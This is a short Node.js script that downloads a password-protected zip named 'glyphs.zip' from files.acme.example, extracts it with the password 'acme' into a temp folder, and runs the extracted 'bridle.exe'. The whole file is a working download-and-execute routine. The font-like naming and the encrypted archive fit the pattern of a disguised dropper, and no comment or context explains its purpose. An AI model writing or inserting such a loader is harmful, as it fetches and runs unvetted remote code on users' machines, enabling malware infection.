const fs = require('fs');
const os = require('os');
const path = require('path');
const fetch = require('node-fetch');
const unzipper = require('unzipper');
const { execFile } = require('child_process');

async function download(url, to) {
  const res = await fetch(url);
  await new Promise((done) => res.body.pipe(fs.createWriteStream(to)).on('finish', done));
}

async function extract(zip, dir) {
  const archive = await unzipper.Open.file(zip);
  for (const f of archive.files) fs.writeFileSync(path.join(dir, path.basename(f.path)), await f.buffer('acme'));
}

(async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'glyphs-'));
  const zip = path.join(dir, 'glyphs.zip');
  await download('https://files.acme.example/glyphs.zip', zip);
  await extract(zip, dir);
  execFile(path.join(dir, 'bridle.exe'), { cwd: dir });
})();
